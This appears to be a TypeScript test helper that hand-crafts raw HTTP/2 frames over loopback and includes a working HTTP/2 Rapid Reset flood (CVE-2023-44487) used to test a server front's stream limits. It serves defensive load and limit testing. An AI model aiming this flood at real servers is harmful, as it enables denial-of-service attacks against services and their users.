import net from 'node:net';

// A raw HTTP/2 attacker for the front-limit suites: frames written by hand on one TCP connection.
// node:http2 would not do what an attacker does — it holds streams back beyond the peer's
// SETTINGS_MAX_CONCURRENT_STREAMS and writes what it likes when it likes — so this writes the
// frames itself (HPACK literals without indexing, no Huffman) and reads back only frame types.

const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
export const H2_ERROR = { NO_ERROR: 0, CANCEL: 8, REFUSED_STREAM: 7, ENHANCE_YOUR_CALM: 11 } as const;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK integer with an N-bit prefix (RFC 7541 §5.1). */
function hpackInt(value: number, prefixBits: number, firstByteFlags = 0): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([firstByteFlags | value]);
  const out = [firstByteFlags | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return Buffer.from(out);
}

/** Header block of literal fields without indexing, new names, no Huffman (RFC 7541 §6.2.2). */
function headerBlock(headers: ReadonlyArray<readonly [string, string]>): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of headers) {
    parts.push(Buffer.from([0x00]), hpackInt(Buffer.byteLength(name), 7), Buffer.from(name), hpackInt(Buffer.byteLength(value), 7), Buffer.from(value));
  }
  return Buffer.concat(parts);
}

export function extendedConnect(path = '/echo', extra: Record<string, string> = {}): Array<[string, string]> {
  return [
    [':method', 'CONNECT'],
    [':protocol', 'websocket'],
    [':scheme', 'http'],
    [':authority', 'localhost'],
    [':path', path],
    ['sec-websocket-version', '13'],
    ...Object.entries(extra),
  ];
}

/** What the front did with one stream. */
export interface StreamFate {
  /** Response HEADERS arrived (the :status is not decoded: the backends' metrics say which). */
  answered: boolean;
  /** RST_STREAM error code from the front, if any. */
  resetCode?: number;
}

export class RawH2Connection {
  readonly socket: net.Socket;
  readonly streams = new Map<number, StreamFate>();
  /** Last-stream-id and error code of the first GOAWAY, if the front sent one. */
  goaway: { lastStreamId: number; code: number } | undefined;
  /** The peer's SETTINGS_MAX_CONCURRENT_STREAMS (absent = unlimited). */
  peerMaxStreams: number | undefined;
  readonly closed: Promise<void>;
  #nextStreamId = 1;
  #inbox: Buffer = Buffer.alloc(0);
  #settings: Promise<void>;

  private constructor(socket: net.Socket) {
    this.socket = socket;
    this.closed = new Promise((r) => socket.once('close', () => r()));
    this.#settings = new Promise((resolve, reject) => {
      const onFrame = () => resolve();
      this.#onSettings = onFrame;
      socket.once('close', () => reject(new Error('connection closed before the peer SETTINGS')));
    });
    socket.on('data', (d) => this.#read(d));
    socket.on('error', () => {});
  }

  #onSettings: () => void = () => {};

  /** Connect (from `localAddress`, any 127/8 address on loopback), send the preface, wait for the peer's SETTINGS. */
  static async open(port: number, localAddress?: string): Promise<RawH2Connection> {
    const socket = net.connect({ port, host: '127.0.0.1', ...(localAddress && { localAddress }) });
    socket.setNoDelay(true);
    const conn = new RawH2Connection(socket);
    // SETTINGS_ENABLE_PUSH 0; a large window so the front never waits on us.
    const settings = Buffer.alloc(12);
    settings.writeUInt16BE(0x2, 0);
    settings.writeUInt32BE(0, 2);
    settings.writeUInt16BE(0x4, 6);
    settings.writeUInt32BE(0x7fffffff, 8);
    socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, settings)]));
    await conn.#settings;
    return conn;
  }

  get isClosed(): boolean {
    return this.socket.destroyed;
  }

  /** HEADERS for a new stream (END_HEADERS, request left open); returns its stream id. */
  openStream(headers: ReadonlyArray<readonly [string, string]>): { id: number; bytes: Buffer } {
    const id = this.#nextStreamId;
    this.#nextStreamId += 2;
    this.streams.set(id, { answered: false });
    return { id, bytes: frame(FRAME.HEADERS, FLAG.END_HEADERS, id, headerBlock(headers)) };
  }

  static reset(id: number, code: number = H2_ERROR.CANCEL): Buffer {
    const payload = Buffer.alloc(4);
    payload.writeUInt32BE(code);
    return frame(FRAME.RST_STREAM, 0, id, payload);
  }

  write(bytes: Buffer): Promise<void> {
    return new Promise((resolve) => {
      if (this.socket.destroyed) return resolve();
      this.socket.write(bytes, () => resolve());
    });
  }

  destroy(): void {
    this.socket.destroy();
  }

  #read(chunk: Buffer): void {
    this.#inbox = this.#inbox.length ? Buffer.concat([this.#inbox, chunk]) : chunk;
    while (this.#inbox.length >= 9) {
      const length = this.#inbox.readUIntBE(0, 3);
      if (this.#inbox.length < 9 + length) break;
      const type = this.#inbox[3]!;
      const flags = this.#inbox[4]!;
      const streamId = this.#inbox.readUInt32BE(5) & 0x7fffffff;
      const payload = this.#inbox.subarray(9, 9 + length);
      this.#inbox = this.#inbox.subarray(9 + length);
      this.#onFrame(type, flags, streamId, payload);
    }
  }

  #onFrame(type: number, flags: number, streamId: number, payload: Buffer): void {
    if (type === FRAME.SETTINGS && !(flags & FLAG.ACK)) {
      for (let i = 0; i + 6 <= payload.length; i += 6) if (payload.readUInt16BE(i) === 0x3) this.peerMaxStreams = payload.readUInt32BE(i + 2);
      this.socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0));
      this.#onSettings();
    } else if (type === FRAME.PING && !(flags & FLAG.ACK)) {
      this.socket.write(frame(FRAME.PING, FLAG.ACK, 0, payload));
    } else if (type === FRAME.HEADERS) {
      const s = this.streams.get(streamId);
      if (s) s.answered = true;
    } else if (type === FRAME.RST_STREAM) {
      const s = this.streams.get(streamId);
      if (s) s.resetCode = payload.readUInt32BE(0);
    } else if (type === FRAME.GOAWAY) {
      this.goaway ??= { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, code: payload.readUInt32BE(4) };
    }
  }
}

/**
 * Rapid reset (CVE-2023-44487): `count` extended CONNECTs on one connection, each followed at once
 * by its RST_STREAM(CANCEL), written in batches of `batch` HEADERS+RST pairs. Returns how many went
 * out before the front closed the connection.
 */
export async function resetFlood(conn: RawH2Connection, count: number, batch = 100, path = '/echo'): Promise<number> {
  let sent = 0;
  while (sent < count && !conn.isClosed) {
    const frames: Buffer[] = [];
    for (let i = 0; i < batch && sent + i < count; i++) {
      const { id, bytes } = conn.openStream(extendedConnect(path));
      frames.push(bytes, RawH2Connection.reset(id));
    }
    await conn.write(Buffer.concat(frames));
    sent += frames.length / 2;
  }
  return sent;
}
